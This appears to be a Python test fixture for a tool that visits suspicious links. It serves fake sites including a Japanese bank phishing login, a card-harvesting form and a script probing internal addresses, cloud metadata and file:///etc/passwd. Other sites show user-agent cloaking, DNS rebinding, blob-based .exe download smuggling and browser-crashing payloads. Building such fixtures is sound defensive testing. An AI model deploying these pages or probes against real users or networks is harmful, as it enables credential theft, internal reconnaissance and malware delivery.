"""The sites of the small Internet that visits are tried on: what frauds put up, and what they try against those who look."""

from __future__ import annotations

import json

from tests.world.web_server import Asked, Page, Site, Web, html, to

BANK = "青葉みらい銀行"
LOGIN = f"""<title>{BANK} ログイン</title><style>body{{font-family:sans-serif}} header{{background:#0a5;color:#fff}}</style>
<link rel=stylesheet href=/kit/style.css><script src=/kit/app.js></script>
<header><img src="http://cdn.minamo.example/logo.png" alt="{BANK}"><h1>{BANK}ダイレクト</h1></header>
<form action="/kit/post.php" method=post>
<p><label>契約者番号 <input name=keiyaku maxlength=10></label>
<p><label for=p>ログインパスワード</label><input id=p type=password name=pw>
<input type=hidden name=t value=1><button>ログイン</button></form>"""
CARD = """<title>お支払い方法の更新</title><form><p>カード番号 <input name=cc-number autocomplete=cc-number><p>有効期限 <input name=exp>
<p>セキュリティコード <input name=cvv type=password></form>"""


def prober(web_port: int) -> str:
    """A page whose scripts reach for everything that is not theirs."""
    targets = [
        f"http://127.0.0.1:{web_port}/from-the-page", f"http://localhost:{web_port}/from-the-page", f"http://[::1]:{web_port}/from-the-page",
        "http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/", "http://192.168.0.1/", "http://10.0.0.1:8080/", "http://0.0.0.0/",
        "http://inner.example/", "http://2130706433/", "http://router.lan/", "file:///etc/passwd", "http://smtp.example:25/",
    ]  # fmt: skip
    return f"""<title>probe</title><p>probe<script>
const all = {json.dumps(targets)};
for (const one of all) {{
  fetch(one, {{mode: "no-cors"}}).catch(() => 0);
  document.body.append(Object.assign(new Image(), {{src: one}}));
  try {{ navigator.sendBeacon(one, "x"); }} catch (error) {{ }}
  document.body.append(Object.assign(document.createElement("iframe"), {{src: one}}));
}}
for (const one of ["ws://127.0.0.1:{web_port}/ws", "ws://192.168.0.1/", "wss://other.example/"])
  try {{ new WebSocket(one); }} catch (error) {{ }}
const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{web_port}"}}, {{urls: "stun:10.0.0.1:3478"}}]}});
peer.createDataChannel("x");
peer.onicecandidate = (event) => {{ if (event.candidate) document.title += " " + event.candidate.address; }};
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
window.open("http://other.example/opened");
fetch("/sent", {{method: "POST", body: "to my own host"}});
fetch("http://other.example/sent", {{method: "POST", mode: "no-cors", body: "to another host"}}).catch(() => 0);
alert("nobody is here"); confirm("really nobody");
</script>"""


HOSTILE = """<body><script>
Object.prototype.toJSON = () => "taken"; Array.prototype.map = Array.prototype.flatMap = Array.prototype.filter = () => { throw 1; };
document.querySelectorAll = Document.prototype.querySelectorAll = () => { throw 1; };
document.title = "\\ud800\\u202e hostile \\u0000";
let deep = document.body; for (let i = 0; i < 300; i++) deep = deep.appendChild(document.createElement("div"));
for (let i = 0; i < 60; i++) { const form = document.body.appendChild(document.createElement("form"));
  form.action = "javascript:" + "x".repeat(5000); const field = form.appendChild(document.createElement("input")); field.name = "\\udfff".repeat(500); }
document.body.append("word ".repeat(20000));
for (let i = 0; i < 20; i++) document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<input type=password>"}));
setInterval(() => { location.hash = Math.random(); }, 20);
</script>"""


def _aoba(asked: Asked) -> Page:
    if asked.path.startswith("/kit/"):
        return Page(b"", 200, {"Content-Type": "text/css" if asked.path.endswith("css") else "text/javascript"})
    return html(LOGIN) if asked.path.startswith("/login") else to("/login.php?step=1")


def _cloaked(asked: Asked) -> Page:
    """Only telephones see it, as with links in short messages."""
    return html(LOGIN) if "Mobile" in asked.agent else html("<title>404 Not Found</title><h1>Not Found</h1>", 404)


def _rebinding(asked: Asked) -> Page:
    script = "for (let i = 0; i < 5; i++) setTimeout(() => fetch('/again' + i), i * 150)"
    return html(f"<title>turn</title><p>turn<script>{script}</script>") if asked.path == "/" else Page(b"{}")


def sites(web: Web) -> dict[str, Site]:
    smuggled = "new Blob(['MZ smuggled'])"
    return {
        "login.aoba.example": _aoba,
        "cdn.minamo.example": lambda _: Page(b"", 404),
        "go.example": lambda _: to("http://meta.example/", 301),
        "meta.example": lambda _: html("<meta http-equiv=refresh content='1;url=http://script.example/'><p>moment"),
        "script.example": lambda _: html("<script>location.href = 'http://login.aoba.example/'</script>"),
        "card.example": lambda _: html(CARD),
        "error.example": lambda _: html("<title>404 Not Found</title><h1>Not Found</h1>", 404),
        "broken.example": lambda _: html("<title>エラー</title><p>Error establishing a database connection"),
        "closed.example": lambda _: html("<title>Account Suspended</title><h1>This Account has been suspended.</h1>"),
        "parked.example": lambda _: html(
            "<title>parked.example</title><p>このドメインは、お名前.com で登録されています。"
        ),
        "challenge.example": lambda _: html("<title>Just a moment...</title><p>Verify you are human", 403),
        "cloaked.example": _cloaked,
        "round.example": lambda asked: to(f"http://round.example/{len(asked.path)}{'x' * len(asked.path)}"),
        "turning.example": lambda _: html("<script>location.href = '/' + Math.random()</script>"),
        "big.example": lambda _: Page(b"", 200, {"Content-Type": "text/html"}, endless=1 << 30),
        "bigger.example": lambda asked: (
            html("<title>big</title><p>big<script src=/more.js></script>")
            if asked.path == "/"
            else Page(b"", 200, {"Content-Type": "text/javascript"}, endless=1 << 30)
        ),
        "file.example": lambda _: Page(
            b"MZ" * 1000,
            200,
            {"Content-Type": "application/octet-stream", "Content-Disposition": 'attachment; filename="seikyuu.exe"'},
        ),
        "smuggler.example": lambda _: html(
            f"<body><script>const a = document.createElement('a'); a.href = URL.createObjectURL({smuggled}); a.download = 'a.exe'; "
            "document.body.append(a); a.click();</script>"
        ),
        "busy.example": lambda _: html("<title>busy</title><p>busy<script>while (true);</script>"),
        "sends.example": lambda _: html(
            "<form id=f method=post action=/sent><input name=a value=1></form><script>f.submit()</script>"
        ),
        "probe.example": lambda _: html(prober(web.port)),
        "rebind.example": _rebinding,
        "hidden.example": lambda _: html("<title>none</title>"),
        "hostile.example": lambda _: html(HOSTILE),
        "inward.example": lambda _: to("http://192.168.0.1/admin"),
        "other.example": lambda _: html("<title>other</title><p>other"),
        "plain.example": lambda _: html("<title>お知らせ</title><p>店舗の営業時間のお知らせです。"),
    }
